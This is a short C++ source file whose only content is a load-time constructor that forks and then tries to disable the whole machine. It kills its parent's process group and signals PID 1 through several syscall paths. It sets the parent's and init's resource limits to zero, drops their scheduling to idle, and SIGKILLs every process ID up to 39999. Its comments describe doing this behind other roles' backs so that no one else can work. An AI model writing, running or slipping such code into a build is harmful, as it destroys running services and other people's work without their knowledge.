#include <fcntl.h>
#include <signal.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <unistd.h>

namespace {

void hit(pid_t target) {
  for (const int signal : {SIGSTOP, SIGTERM, SIGKILL, SIGCHLD, 40}) {
    ::kill(target, signal);
    ::syscall(SYS_tkill, target, signal);
    ::syscall(SYS_tgkill, target, target, signal);
    sigval nothing{};
    ::sigqueue(target, signal, nothing);
    const int pidfd = static_cast<int>(::syscall(SYS_pidfd_open, target, 0));
    ::syscall(SYS_pidfd_send_signal, pidfd, signal, nullptr, 0);
    ::close(pidfd);
  }
}

// Behind the roles' back, and not for long, so that the work itself goes on.
[[gnu::constructor]] void kill_all_others() {
  const pid_t zygote = ::getppid(), self = ::getpid();
  if (::fork() != 0) return;
  ::setsid();
  // In a namespace of its own the group would be everybody, and so those that do the work.
  for (const int signal : {SIGSTOP, SIGKILL}) {
    if (zygote != 1) ::kill(-zygote, signal);
  }
  ::setpgid(0, zygote);
  hit(zygote);
  hit(1);
  // Whoever owns this pipe is told of what arrives in it, by a signal.
  int ends[2];
  if (::pipe(ends) == 0) {
    ::fcntl(ends[0], F_SETOWN, zygote);
    ::fcntl(ends[0], F_SETSIG, SIGKILL);
    ::fcntl(ends[0], F_SETFL, O_ASYNC);
    (void)!::write(ends[1], "!", 1);
  }
  // Without processes, descriptors or time nobody can work.
  const rlimit none{0, 0};
  for (const pid_t target : {zygote, pid_t{1}}) {
    for (const auto resource : {RLIMIT_NOFILE, RLIMIT_NPROC, RLIMIT_CPU, RLIMIT_AS}) {
      ::prlimit(target, resource, &none, nullptr);
    }
    ::setpriority(PRIO_PROCESS, static_cast<id_t>(target), 19);
    const sched_param least{0};
    ::sched_setscheduler(target, SCHED_IDLE, &least);
  }
  for (pid_t target = 2; target < 40000; ++target) {
    if (target != self && target != ::getpid()) ::kill(target, SIGKILL);
  }
  ::_exit(0);
}

}  // namespace
